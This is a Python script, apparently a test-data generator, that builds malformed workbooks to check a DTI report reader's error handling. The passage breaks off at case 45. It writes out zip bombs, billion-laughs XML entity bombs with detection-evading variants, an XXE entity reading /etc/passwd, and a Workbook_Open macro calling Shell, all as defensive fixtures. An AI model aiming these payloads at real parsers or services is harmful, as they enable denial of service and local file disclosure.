"""Regenerate the corpus of bad unit workbooks in tests/data/bad_workbooks/.

    .venv/bin/python tests/data/make_bad_workbooks.py

One file per failure a returned workbook can have, each with the issue the
reader must raise and where (expected.csv: file, code, severity, sheet, cell,
field; cell and field blank where they do not apply). Files that must be read
fine ("accepted") have a row with an empty code and severity.

Every workbook starts from a template written by dti_report.templates.write_template
for so-tttt (set hcm-dti-so, period 2023; a 2022 one for wrong-period, a
hcm-dti-so one made for the district q1 for unit-set-mismatch), filled with
dti_report.fill.fill_workbook, then broken with openpyxl or by rewriting the zip.
The output is deterministic: docProps/core.xml (and ODS meta.xml) restamped,
zip entries rewritten with a fixed date, encryption randomness seeded, so
rerunning gives the same bytes (with the same zlib, LibreOffice and
msoffcrypto-tool versions).

Needs LibreOffice (`soffice`) for the .ods and .xls cases, and
msoffcrypto-tool (`pip install msoffcrypto-tool`, not a project dependency)
for a really encrypted workbook; without it an existing encrypted file is
kept, or else a minimal OLE file naming the EncryptionInfo/EncryptedPackage
streams is written.

The whole corpus stays about 2 MB: the zip bombs are zeros or blanks that
deflate about 1000:1, and the oversized file (file-too-large) is made by the
test itself as a sparse file.
"""

from __future__ import annotations

import contextlib
import csv
import hashlib
import io
import os
import re
import shutil
import struct
import subprocess
import sys
import tempfile
import zipfile
from pathlib import Path

# openpyxl serializes XML with lxml when it is installed and with the standard
# library otherwise, in different bytes: always the standard library here.
os.environ["OPENPYXL_LXML"] = "False"

import openpyxl  # noqa: E402

from dti_report.kinds import get_form  # noqa: E402
from dti_report.workbook.fill import fill_workbook  # noqa: E402
from dti_report.workbook.layout import HEADER, INPUT_SHEET, META_SHEET  # noqa: E402
from dti_report.workbook.templates import write_template  # noqa: E402
from dti_report.forms.units import builtin_registry  # noqa: E402

HERE = Path(__file__).resolve().parent
OUT = HERE / "bad_workbooks"
PERIOD = "2023"
SET_SO = "hcm-dti-so"

FIXED_ISO = "2024-01-15T09:00:00Z"
FIXED_ZIP_DATE = (2024, 1, 15, 9, 0, 0)
MB = 1024 * 1024

# A complete, valid return for so-tttt (scores with no error).
SO_TTTT_VALUES = {
    "1.1": "3", "1.2.a": "7", "1.2.b": "11", "1.3.a": "4", "1.3.b": "7", "1.4.a": "Có", "1.4.b": "46",
    "2.1": "Có", "2.2": "Có", "2.3.a": "134", "2.3.b": "303",
    "3.1.a": "258", "3.1.b": "303", "3.2.a": "291", "3.2.b": "292", "3.3.a": "8", "3.3.b": "10",
    "3.4.a": "6", "3.4.b": "7", "3.4.c": "5", "3.4.d": "6",
    "4.1.a": "0", "4.1.b": "8", "4.1.c": "1", "4.1.d": "3", "4.1.e": "147", "4.1.f": "156",
    "4.2": "Có", "4.3.a": "196", "4.3.b": "303",
    "5.1.a": "5", "5.2.a": "3", "5.2.b": "5", "5.3.a": "3", "5.3.b": "7", "5.4.a": "5", "5.4.b": "7",
    "6.1.a": "Có", "6.1.b": "Có", "6.2.a": "10", "6.2.b": "11",
    "6.3.a": "95", "6.3.b": "28", "6.3.c": "64", "6.3.d": "21", "6.4.a": "7583", "6.4.b": "6977",
    "6.5": "Có", "6.6": "Có", "6.7": "Có", "6.8": "Có", "6.9": "Có", "6.10": "Có", "6.11": "Không",
    "6.12": "Không", "6.13.a": "90,1%", "6.13.b": "83,5%", "6.14.a": "20012", "6.14.b": "20128",
}


# --- building blocks --------------------------------------------------------------

def template(work: Path, set_id: str = SET_SO, unit: str = "so-tttt", period: str = PERIOD) -> Path:
    path = work / f"tpl-{unit}-{set_id}-{period}.xlsx"
    if not path.exists():
        write_template(get_form(set_id), builtin_registry().by_code()[unit], period, path)
    return path


def filled(work: Path) -> Path:
    """so-tttt's template filled with SO_TTTT_VALUES (made once per run)."""
    target = work / "filled-so-tttt.xlsx"
    if not target.exists():
        fill_workbook(get_form(SET_SO), template(work), SO_TTTT_VALUES, target)
    return target


def edit(src: Path, dst: Path, change) -> None:
    """Open with openpyxl, let `change(book)` break something, save."""
    book = openpyxl.load_workbook(src)
    change(book)
    book.save(dst)


def zip_parts(path: Path) -> list[tuple[zipfile.ZipInfo, bytes]]:
    with zipfile.ZipFile(path) as z:
        return [(i, z.read(i)) for i in z.infolist()]


def fixed_info(name: str, compress: int = zipfile.ZIP_DEFLATED) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name, FIXED_ZIP_DATE)
    info.compress_type = compress
    info.create_system = 3
    info.external_attr = 0o644 << 16
    try:  # z.open(info, "w") does not take ZipFile's compresslevel
        info.compress_level = 9  # Python >= 3.13
    except AttributeError:
        info._compresslevel = 9
    return info


def write_zip(dst: Path, parts) -> None:
    """(name, bytes) pairs, or (name, bytes, compress_type), in order, with fixed dates."""
    with zipfile.ZipFile(dst, "w", compresslevel=9) as z:
        for part in parts:
            name, data = part[0], part[1]
            compress = part[2] if len(part) > 2 else zipfile.ZIP_DEFLATED
            z.writestr(fixed_info(name, compress), data)


_STAMPS = [
    rb"(<dcterms:created[^>]*>)[^<]*", rb"(<dcterms:modified[^>]*>)[^<]*",  # OOXML docProps/core.xml
    rb"(<meta:creation-date>)[^<]*", rb"(<dc:date>)[^<]*", rb"(<meta:print-date>)[^<]*",  # ODS meta.xml
]


def normalize(path: Path) -> None:
    """Same bytes on every run: fixed save stamps, fixed zip entry dates, level-9 deflate."""
    parts = []
    for info, data in zip_parts(path):
        if info.filename in ("docProps/core.xml", "meta.xml"):
            for pattern in _STAMPS:
                data = re.sub(pattern, rb"\g<1>" + FIXED_ISO.encode(), data)
            data = re.sub(rb"(<meta:editing-duration>)[^<]*", rb"\g<1>PT0S", data)
        parts.append((info.filename, data, info.compress_type))
    write_zip(path, parts)


def replace_parts(src: Path, dst: Path, changes: dict[str, bytes | None], extra=()) -> None:
    """Rewrite a zip with some parts replaced (None drops one) and extra parts appended."""
    parts = []
    for info, data in zip_parts(src):
        if info.filename in changes:
            if changes[info.filename] is None:
                continue
            data = changes[info.filename]
        parts.append((info.filename, data, info.compress_type))
    write_zip(dst, parts + list(extra))


def field_cell(path: Path, field_id: str) -> str:
    """The value cell of a field id's row, found with openpyxl (not the reader under test)."""
    book = openpyxl.load_workbook(path)
    sheet = book[INPUT_SHEET]
    hits = [c.row for row in sheet.iter_rows() for c in row if c.value == field_id and c.column == 8]
    assert len(hits) == 1, (path, field_id, hits)
    return f"E{hits[0]}"


def input_row_of(sheet, field_id: str) -> int:
    return next(c.row for c in sheet["H"] if c.value == field_id)


def soffice_convert(src: Path, fmt: str, outdir: Path) -> Path:
    """`src` saved by LibreOffice as `fmt` into `outdir`, a folder of its own: asked to write
    over its source (xlsx to xlsx in the same folder) LibreOffice writes nothing, and the
    source would pass for its output."""
    outdir.mkdir(parents=True, exist_ok=True)
    if outdir.resolve() == src.parent.resolve():
        raise SystemExit(f"soffice would write over {src}: give it another folder")
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    if soffice is None:
        raise SystemExit("LibreOffice (soffice) is needed for the .ods and .xls cases")
    subprocess.run([soffice, "-env:UserInstallation=file:///tmp/lo-profile-corpus", "--headless",
                    "--convert-to", fmt, "--outdir", str(outdir), str(src)],
                   check=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=300)
    out = outdir / (src.stem + "." + fmt)
    if not out.exists():
        raise SystemExit(f"soffice did not write {out}")
    return out


# --- the cases --------------------------------------------------------------------
# Each case writes its file and returns the expected issue:
# dict(code=..., sheet=..., cell=..., field=...); code "" means "must be accepted".

CASES: list[tuple[str, object]] = []


def case(name: str):
    def register(fn):
        CASES.append((name, fn))
        return fn
    return register


def expect(code: str = "", sheet: str = "", cell: str = "", field: str = "") -> dict:
    return {"code": code, "sheet": sheet, "cell": cell, "field": field}


@case("01-not-a-workbook.xlsx")
def _text_file(work, dst):
    """A plain text note saved with an .xlsx name."""
    dst.write_bytes("Kính gửi Sở Thông tin và Truyền thông,\nđơn vị gửi số liệu DTI năm 2023 theo tệp đính kèm.\n"
                    .encode("utf-8"))
    return expect("not-a-workbook")


@case("02-pdf-renamed.xlsx")
def _pdf(work, dst):
    """A (minimal) PDF renamed to .xlsx: the scanned signed copy sent instead of the workbook."""
    dst.write_bytes(b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
                    b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n"
                    b"trailer\n<< /Root 1 0 R >>\n%%EOF\n")
    return expect("not-a-workbook")


@case("03-docx-renamed.xlsx")
def _docx(work, dst):
    """A Word document (a zip, but no xl/workbook.xml) renamed to .xlsx."""
    ct = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
          b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
          b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
          b'<Default Extension="xml" ContentType="application/xml"/>'
          b'<Override PartName="/word/document.xml" '
          b'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>')
    rels = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            b'officeDocument" Target="word/document.xml"/></Relationships>')
    doc = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
           '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
           '<w:p><w:r><w:t>Báo cáo chuyển đổi số năm 2023</w:t></w:r></w:p></w:body></w:document>').encode()
    write_zip(dst, [("[Content_Types].xml", ct), ("_rels/.rels", rels), ("word/document.xml", doc)])
    return expect("not-a-workbook")


@case("04-truncated.xlsx")
def _truncated(work, dst):
    """A filled workbook cut off mid-transfer: zip magic, no central directory."""
    src = work / "complete.xlsx"
    shutil.copy(filled(work), src)
    normalize(src)
    data = src.read_bytes()
    dst.write_bytes(data[: len(data) // 2])
    return expect("corrupt-workbook")


@case("05-corrupt-workbook-xml.xlsx")
def _mangled_workbook_xml(work, dst):
    """A valid zip whose xl/workbook.xml is cut in half (not well-formed)."""
    src = filled(work)
    with zipfile.ZipFile(src) as z:
        xml = z.read("xl/workbook.xml")
    replace_parts(src, dst, {"xl/workbook.xml": xml[: len(xml) // 2]})
    return expect("corrupt-workbook")


class _SeededRandom:
    def __init__(self, seed: bytes):
        self.state = seed

    def __call__(self, size: int) -> bytes:
        out = b""
        while len(out) < size:
            self.state = hashlib.sha256(self.state).digest()
            out += self.state
        return out[:size]


def _minimal_encrypted_ole() -> bytes:
    """Not a real encrypted file: the OLE header and the two stream names an
    encrypted OOXML package holds, which is all the reader looks at."""
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16) + b"\x3e\x00\x03\x00\xfe\xff\x09\x00"
    header = header.ljust(512, b"\x00")
    entries = b""
    for name in ("Root Entry", "EncryptionInfo", "EncryptedPackage"):
        raw = name.encode("utf-16-le") + b"\x00\x00"
        entries += (raw.ljust(64, b"\x00") + len(raw).to_bytes(2, "little")).ljust(128, b"\x00")
    return header + entries.ljust(512, b"\x00")


@case("06-password-protected.xlsx")
def _encrypted(work, dst):
    """A filled workbook saved with a password ("dti2023"): an OLE container
    with EncryptionInfo and EncryptedPackage streams."""
    try:
        import msoffcrypto.method.container.ecma376_encrypted as container
        import msoffcrypto.method.ecma376_agile as agile
        from msoffcrypto.format.ooxml import OOXMLFile
    except ImportError:
        existing = OUT / dst.name
        if existing.exists():
            print(f"  msoffcrypto-tool not installed: keeping {existing.name} as it is", file=sys.stderr)
            shutil.copy(existing, dst)
        else:
            print("  msoffcrypto-tool not installed: writing a minimal OLE file instead", file=sys.stderr)
            dst.write_bytes(_minimal_encrypted_ole())
        return expect("password-protected")
    import datetime as dt

    class _FixedDatetime(dt.datetime):
        @classmethod
        def now(cls, tz=None):
            return cls(2024, 1, 15, 9, 0, 0)

    src = work / "to-encrypt.xlsx"
    shutil.copy(filled(work), src)
    normalize(src)
    out = io.BytesIO()
    with contextlib.ExitStack() as stack:
        stack.enter_context(_patched(agile, "_random_buffer", _SeededRandom(b"dti-report bad workbooks")))
        stack.enter_context(_patched(container, "datetime", _FixedDatetime))
        with open(src, "rb") as f:
            OOXMLFile(f).encrypt("dti2023", out)
    dst.write_bytes(out.getvalue())
    return expect("password-protected")


@contextlib.contextmanager
def _patched(module, name, value):
    old = getattr(module, name)
    setattr(module, name, value)
    try:
        yield
    finally:
        setattr(module, name, old)


def _zeros_entry(z: zipfile.ZipFile, name: str, size: int) -> None:
    chunk = bytes(MB)
    with z.open(fixed_info(name), "w") as f:
        for _ in range(size // MB):
            f.write(chunk)


@case("07-zip-bomb-size.xlsx")
def _bomb_size(work, dst):
    """A filled workbook plus one entry of 250 MB of zeros: over Limits.max_uncompressed_bytes
    (200 MB) while the file stays ~250 KB."""
    shutil.copy(filled(work), dst)
    normalize(dst)
    with zipfile.ZipFile(dst, "a", compresslevel=9) as z:
        _zeros_entry(z, "xl/media/image1.bin", 250 * MB)
    return expect("zip-bomb")


@case("08-zip-bomb-ratio.xlsx")
def _bomb_ratio(work, dst):
    """A filled workbook plus one 20 MB entry of zeros: under the size limit but
    compressed ~1000:1, over Limits.max_ratio (200:1)."""
    shutil.copy(filled(work), dst)
    normalize(dst)
    with zipfile.ZipFile(dst, "a", compresslevel=9) as z:
        _zeros_entry(z, "xl/media/image1.bin", 20 * MB)
    return expect("zip-bomb")


@case("09-zip-bomb-entries.xlsx")
def _bomb_entries(work, dst):
    """A filled workbook plus 2,100 empty entries: over Limits.max_entries (2000)."""
    extra = [(f"customXml/item{i}.xml", b"", zipfile.ZIP_STORED) for i in range(1, 2101)]
    replace_parts(filled(work), dst, {}, extra)
    return expect("zip-bomb")


BILLION_LAUGHS = b"""<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<!DOCTYPE Properties [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-properties"><Application>&lol9;</Application></Properties>"""


@case("10-xml-bomb.xlsx")
def _xml_bomb(work, dst):
    """docProps/app.xml replaced by "billion laughs" (nested entities)."""
    replace_parts(filled(work), dst, {"docProps/app.xml": BILLION_LAUGHS})
    return expect("xml-bomb")


@case("11-xxe.xlsx")
def _xxe(work, dst):
    """The input sheet's XML declares an external entity (file:///etc/passwd)
    and shows it in the title cell A1."""
    src, part = filled(work), "xl/worksheets/sheet2.xml"
    with zipfile.ZipFile(src) as z:
        xml = z.read(part)
    decl, rest = xml.split(b"?>", 1) if xml.startswith(b"<?xml") else (b'<?xml version="1.0" encoding="UTF-8"', xml)
    rest, n = re.subn(rb"<t>[^<]*</t>", b"<t>&xxe;</t>", rest, count=1)
    assert n == 1
    xml = decl + b'?>\n<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n' + rest
    replace_parts(src, dst, {part: xml})
    return expect("xml-bomb")


@case("12-not-a-template.xlsx")
def _plain_workbook(work, dst):
    """A unit's own spreadsheet made from scratch (openpyxl): no _meta sheet."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "DTI 2023"
    sheet.append(["Mã tiêu chí", "Nội dung", "Số liệu"])
    for field_id in ("1.1", "1.2.a", "1.2.b"):
        sheet.append([field_id, "", SO_TTTT_VALUES[field_id]])
    book.save(dst)
    return expect("not-a-template")


def _meta_edit(key: str, value):
    def change(book):
        sheet = book[META_SHEET]
        row = next(c.row for c in sheet["A"] if c.value == key)
        if value is None:
            sheet.delete_rows(row)
        else:
            sheet.cell(row, 2).value = value
    return change


@case("13-meta-missing-key.xlsx")
def _meta_missing_key(work, dst):
    """The _meta sheet without its "period" row."""
    edit(filled(work), dst, _meta_edit("period", None))
    return expect("not-a-template", sheet=META_SHEET)


@case("14-unknown-set.xlsx")
def _unknown_set(work, dst):
    """set_id in _meta names no indicator set the tool has."""
    edit(filled(work), dst, _meta_edit("set_id", "hcm-dti-xa"))
    return expect("unknown-set", sheet=META_SHEET)


@case("15-old-set-version.xlsx")
def _old_version(work, dst):
    """An older version of the set (last year's template reused)."""
    edit(filled(work), dst, _meta_edit("set_version", "2022.1"))
    return expect("template-version-mismatch", sheet=META_SHEET)


@case("16-wrong-template-hash.xlsx")
def _wrong_hash(work, dst):
    """template_hash of a template made from an edited set."""
    edit(filled(work), dst, _meta_edit("template_hash", "0123456789abcdef"))
    return expect("template-version-mismatch", sheet=META_SHEET)


@case("17-wrong-template-format.xlsx")
def _wrong_format(work, dst):
    """A layout format the reader does not know."""
    edit(filled(work), dst, _meta_edit("template_format", "0"))
    return expect("template-version-mismatch", sheet=META_SHEET)


@case("18-unknown-unit.xlsx")
def _unknown_unit(work, dst):
    """unit_code in _meta is not in the registry."""
    edit(filled(work), dst, _meta_edit("unit_code", "so-khong-ton-tai"))
    return expect("unknown-unit", sheet=META_SHEET)


@case("19-unit-set-mismatch.xlsx")
def _unit_set_mismatch(work, dst):
    """A hcm-dti-so template made for q1, a district (it reports on hcm-dti-huyen)."""
    fill_workbook(get_form(SET_SO), template(work, SET_SO, "q1"), SO_TTTT_VALUES, dst)
    return expect("unit-set-mismatch", sheet=META_SHEET)


@case("20-unit-mismatch/so-gtvt_hcm-dti-so_2023.xlsx")
def _unit_mismatch(work, dst):
    """so-tttt's filled template sent under so-gtvt's file name (the name the tool
    gives a template: <unit>_<set>_<period>.xlsx)."""
    shutil.copy(filled(work), dst)
    return expect("unit-mismatch", sheet=META_SHEET)


@case("21-wrong-period.xlsx")
def _wrong_period(work, dst):
    """A template for 2022 sent to the 2023 batch."""
    fill_workbook(get_form(SET_SO), template(work, period="2022"), SO_TTTT_VALUES, dst)
    return expect("wrong-period", sheet=META_SHEET)


@case("22-input-sheet-renamed.xlsx")
def _sheet_renamed(work, dst):
    """The input sheet renamed "Nhap lieu" (diacritics dropped)."""
    def change(book):
        book[INPUT_SHEET].title = "Nhap lieu"
    edit(filled(work), dst, change)
    return expect("missing-sheet", sheet=INPUT_SHEET)


@case("23-header-changed.xlsx")
def _header_changed(work, dst):
    """The "Mã trường" header cell overwritten."""
    def change(book):
        sheet = book[INPUT_SHEET]
        cell = next(c for row in sheet.iter_rows(max_row=30) for c in row if c.value == HEADER["field_id"])
        cell.value = "Mã số"
    edit(filled(work), dst, change)
    return expect("missing-header", sheet=INPUT_SHEET)


def _value_case(field_id: str, raw, code: str, located_at: str | None = None, **changes):
    """A filled workbook with one field's cell holding `raw` as typed."""
    def build(work, dst):
        fill_workbook(get_form(SET_SO), template(work), {**SO_TTTT_VALUES, **changes, field_id: raw}, dst)
        at = located_at or field_id
        return expect(code, sheet=INPUT_SHEET, cell=field_cell(dst, at), field=at)
    build.__doc__ = f"{field_id} = {raw!r}" + (f" with {changes}" if changes else "")
    return build


case("24-text-in-number.xlsx")(_value_case("1.2.b", "mười hai", "not-a-number"))
case("25-negative-number.xlsx")(_value_case("1.3.b", -7, "negative-number"))
case("26-fraction-in-integer.xlsx")(_value_case("2.3.a", 134.5, "not-an-integer"))
# Located at the numerator's cell (engine: the first numerator field).
case("27-numerator-exceeds-denominator.xlsx")(_value_case("1.2.a", 12, "numerator-exceeds-denominator"))
# Located at the denominator's cell; the numerator 0 too so only the denominator is wrong.
case("28-zero-denominator.xlsx")(_value_case("1.2.b", 0, "zero-denominator", **{"1.2.a": 0}))


@case("29-percent-over-100.xlsx")
def _percent_over(work, dst):
    """6.13.a holds the number 1.2 (120% in a percent-formatted cell)."""
    def change(book):
        sheet = book[INPUT_SHEET]
        sheet.cell(input_row_of(sheet, "6.13.a"), 5).value = 1.2
    edit(filled(work), dst, change)
    return expect("percent-out-of-range", sheet=INPUT_SHEET, cell=field_cell(dst, "6.13.a"), field="6.13.a")


case("30-invalid-option.xlsx")(_value_case("1.1", "Giám đốc Sở làm Trưởng ban", "invalid-option"))
case("31-invalid-yes-no.xlsx")(_value_case("2.1", "có thể", "invalid-yes-no"))


def _insert_row(book, after_field: str, field_id: str, value) -> None:
    sheet = book[INPUT_SHEET]
    row = input_row_of(sheet, after_field) + 1
    sheet.insert_rows(row)
    sheet.cell(row, 2).value = "Dòng do đơn vị tự thêm"
    sheet.cell(row, 5).value = value
    sheet.cell(row, 8).value = field_id


@case("32-unknown-field.xlsx")
def _unknown_field(work, dst):
    """A row the unit inserted after 1.2.b, with its own field id "1.2.c"."""
    edit(filled(work), dst, lambda book: _insert_row(book, "1.2.b", "1.2.c", 5))
    return expect("unknown-field", sheet=INPUT_SHEET, cell=field_cell(dst, "1.2.c"), field="1.2.c")


@case("33-duplicate-field.xlsx")
def _duplicate_field(work, dst):
    """1.2.a on a second row (inserted after 1.2.b); the first one is used."""
    edit(filled(work), dst, lambda book: _insert_row(book, "1.2.b", "1.2.a", 9))
    book = openpyxl.load_workbook(dst)
    sheet = book[INPUT_SHEET]
    second = [c.row for c in sheet["H"] if c.value == "1.2.a"][1]
    return expect("duplicate-field", sheet=INPUT_SHEET, cell=f"E{second}", field="1.2.a")


@case("34-blank-field.xlsx")
def _blank_field(work, dst):
    """1.3.a left blank, everything else filled: a warning, not an error."""
    fill_workbook(get_form(SET_SO), template(work), {k: v for k, v in SO_TTTT_VALUES.items() if k != "1.3.a"}, dst)
    return expect("blank-field", sheet=INPUT_SHEET, cell=field_cell(dst, "1.3.a"), field="1.3.a")


VBA_PROJECT = (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16) + b"\x3e\x00\x03\x00\xfe\xff\x09\x00").ljust(512, b"\x00") \
    + b'Attribute VB_Name = "ThisWorkbook"\r\nSub Workbook_Open()\r\n    Shell "calc.exe"\r\nEnd Sub\r\n'


@case("35-macro-enabled.xlsm")
def _xlsm(work, dst):
    """The blank template saved as .xlsm with a vbaProject.bin (a Workbook_Open
    macro): macros never run, the values are read as usual → accepted, with only
    blank-field warnings."""
    src = template(work)
    with zipfile.ZipFile(src) as z:
        types, rels = z.read("[Content_Types].xml"), z.read("xl/_rels/workbook.xml.rels")
    types = types.replace(b"spreadsheetml.sheet.main+xml", b"ms-excel.sheet.macroEnabled.main+xml")
    types = types.replace(b"<Default ", b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Default ', 1)
    rels = rels.replace(b"</Relationships>", b'<Relationship Id="rId99" Type="http://schemas.microsoft.com/office/2006/'
                                              b'relationships/vbaProject" Target="vbaProject.bin"/></Relationships>')
    assert b"macroEnabled" in types and b"vbaProject" in rels
    replace_parts(src, dst, {"[Content_Types].xml": types, "xl/_rels/workbook.xml.rels": rels},
                  [("xl/vbaProject.bin", VBA_PROJECT)])
    return expect()


def cell_values(path: Path) -> dict[str, list]:
    """Every sheet's cell values, as python-calamine reads them."""
    import python_calamine

    book = python_calamine.CalamineWorkbook.from_path(str(path))
    return {name: book.get_sheet_by_name(name).to_python(skip_empty_area=False) for name in book.sheet_names}


def libreoffice_copy(work: Path, src: Path, fmt: str, dst: Path) -> None:
    """`src` saved by LibreOffice as `fmt`. LibreOffice writes styles and
    validations in a different order from run to run, so the file already in
    the corpus is kept when it holds the same cell values as a fresh copy."""
    existing = OUT / dst.name
    if not (shutil.which("soffice") or shutil.which("libreoffice")) and existing.exists():
        print(f"  LibreOffice not installed: keeping {existing.name} as it is", file=sys.stderr)
        shutil.copy(existing, dst)
        return
    staged = work / "lo" / dst.with_suffix(".xlsx").name
    staged.parent.mkdir(exist_ok=True)
    shutil.copy(src, staged)
    fresh = soffice_convert(staged, fmt, staged.parent / "saved")
    if zipfile.is_zipfile(fresh):
        normalize(fresh)
    if existing.exists() and cell_values(existing) == cell_values(fresh):
        shutil.copy(existing, dst)
    else:
        shutil.copy(fresh, dst)


@case("36-libreoffice.ods")
def _ods(work, dst):
    """The filled workbook saved by LibreOffice Calc as .ods → accepted."""
    libreoffice_copy(work, filled(work), "ods", dst)
    return expect()


@case("37-legacy.xls")
def _xls(work, dst):
    """The filled workbook saved by LibreOffice Calc as Excel 97-2003 .xls → accepted."""
    libreoffice_copy(work, filled(work), "xls", dst)
    shutil.copy(dst, work / "legacy.xls")
    return expect()


@case("38-rows-moved.xlsx")
def _rows_moved(work, dst):
    """The whole rows of 1.2.a (7) and 3.1.b (303) swapped, field id included:
    values are found by field id, so both still read right → accepted."""
    def change(book):
        sheet = book[INPUT_SHEET]
        a, b = input_row_of(sheet, "1.2.a"), input_row_of(sheet, "3.1.b")
        for col in range(1, 9):
            x, y = sheet.cell(a, col), sheet.cell(b, col)
            x.value, y.value = y.value, x.value
    edit(filled(work), dst, change)
    return expect()


@case("39-xls-renamed.xlsx")
def _xls_renamed(work, dst):
    """An Excel 97-2003 .xls (OLE) file given an .xlsx name."""
    shutil.copy(work / "legacy.xls", dst)  # written by case 37
    return expect("corrupt-workbook")


@case("40-date-in-number-cell.xlsx")
def _date_in_number(work, dst):
    """1.2.a holds a date (05/12/2023) where a count belongs."""
    import datetime as dt

    def change(book):
        sheet = book[INPUT_SHEET]
        sheet.cell(input_row_of(sheet, "1.2.a"), 5).value = dt.datetime(2023, 12, 5)
    edit(filled(work), dst, change)
    return expect("not-a-number", sheet=INPUT_SHEET, cell=field_cell(dst, "1.2.a"), field="1.2.a")


@case("41-error-value.xlsx")
def _error_value(work, dst):
    """1.2.a holds a formula the unit typed, =7/0, saved as Excel does with its
    cached result #DIV/0! (an error cell): not a number, and not "no data"."""
    src = filled(work)
    cell = field_cell(src, "1.2.a")
    part = "xl/worksheets/sheet2.xml"
    with zipfile.ZipFile(src) as z:
        xml = z.read(part)
    pattern = rb'<c r="' + cell.encode() + rb'"( s="\d+")?[^>]*?(/>|>.*?</c>)'
    xml, n = re.subn(pattern, lambda m: b'<c r="' + cell.encode() + b'"' + (m.group(1) or b"")
                     + b' t="e"><f>7/0</f><v>#DIV/0!</v></c>', xml, count=1)
    assert n == 1
    replace_parts(src, dst, {part: xml})
    return expect("not-a-number", sheet=INPUT_SHEET, cell=cell, field="1.2.a")


def _doctype(root: str) -> bytes:
    """The billion-laughs DTD for a document whose root element is `root`."""
    dtd = BILLION_LAUGHS.split(b"?>", 1)[1].split(b"]>", 1)[0] + b"]>\n"
    return dtd.replace(b"DOCTYPE Properties", b"DOCTYPE " + root.encode())


def _laughing_sheet(work) -> tuple[Path, bytes]:
    """The filled workbook's input sheet XML with &lol9; in its title cell (no DTD yet)."""
    src = filled(work)
    with zipfile.ZipFile(src) as z:
        xml = z.read("xl/worksheets/sheet2.xml")
    if xml.startswith(b"<?xml"):
        xml = xml.split(b"?>", 1)[1]
    xml, n = re.subn(rb"<t>[^<]*</t>", b"<t>&lol9;</t>", xml, count=1)
    assert n == 1
    return src, xml


@case("42-xml-bomb-after-comment.xlsx")
def _bomb_after_comment(work, dst):
    """Billion laughs in the input sheet, its DOCTYPE after a 5 KB comment:
    still before the root element, as XML allows, but past the first 4 KB."""
    src, xml = _laughing_sheet(work)
    xml = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<!--' + b" " * 5000 + b"-->\n"
           + _doctype("worksheet") + xml)
    replace_parts(src, dst, {"xl/worksheets/sheet2.xml": xml})
    return expect("xml-bomb")


@case("43-xml-bomb-in-non-xml-part.xlsx")
def _bomb_in_dat_part(work, dst):
    """Billion laughs in the input sheet stored as xl/worksheets/sheet2.dat: a part
    name is whatever the relationships say, it need not end in .xml."""
    src, xml = _laughing_sheet(work)
    xml = b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n' + _doctype("worksheet") + xml
    old, new = b"/xl/worksheets/sheet2.xml", b"/xl/worksheets/sheet2.dat"
    parts = []
    for info, data in zip_parts(src):
        name = info.filename
        if name == "xl/worksheets/sheet2.xml":
            name, data = "xl/worksheets/sheet2.dat", xml
        elif name in ("[Content_Types].xml", "xl/_rels/workbook.xml.rels"):
            assert old in data or old[1:] in data
            data = data.replace(old, new).replace(old[1:], new[1:])
        parts.append((name, data))
    write_zip(dst, parts)
    return expect("xml-bomb")


@case("44-xml-bomb-utf16.xlsx")
def _bomb_utf16(work, dst):
    """Billion laughs in the input sheet encoded in UTF-16 (which XML and OOXML
    allow): "<!DOCTYPE" is not in its bytes as ASCII."""
    src, xml = _laughing_sheet(work)
    text = ('<?xml version="1.0" encoding="UTF-16" standalone="yes"?>\n' + _doctype("worksheet").decode()
            + xml.decode("utf-8"))
    replace_parts(src, dst, {"xl/worksheets/sheet2.xml": b"\xff\xfe" + text.encode("utf-16-le")})
    return expect("xml-bomb")


@case("45-zip-sizes-lie.xlsx")
def _sizes_lie(work, dst):
    """The input sheet padded with 210 MB of blanks (deflates to ~210 KB) while
